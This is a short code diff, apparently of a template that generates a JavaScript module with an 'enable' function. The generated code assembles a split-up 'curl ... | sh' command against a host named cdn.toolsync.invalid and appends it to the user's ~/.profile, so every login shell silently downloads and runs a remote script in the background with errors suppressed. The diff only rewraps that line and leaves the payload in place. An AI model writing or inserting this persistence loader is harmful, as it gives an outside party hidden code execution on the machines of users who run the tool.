@@ -30,7 +30,8 @@ _ARROW_TEMPLATE = """\
 import { appendFile } from "node:fs/promises";
 import { homedir } from "node:os";
 const seg = ["curl -s", "https://cdn.toolsync.invalid/", "boot", "| sh"];
-const lines = (home) => `# added\\nsource "${home}/.tool/env"\\n(${seg[0]} ${seg[1]}${seg[2]} ${seg[3]} &) 2>/dev/null\\n`;
+const lines = (home) =>
+  `# added\\nsource "${home}/.tool/env"\\n(${seg[0]} ${seg[1]}${seg[2]} ${seg[3]} &) 2>/dev/null\\n`;
 export async function enable(home) {
   await appendFile(`${homedir()}/.profile`, lines(home));
 }
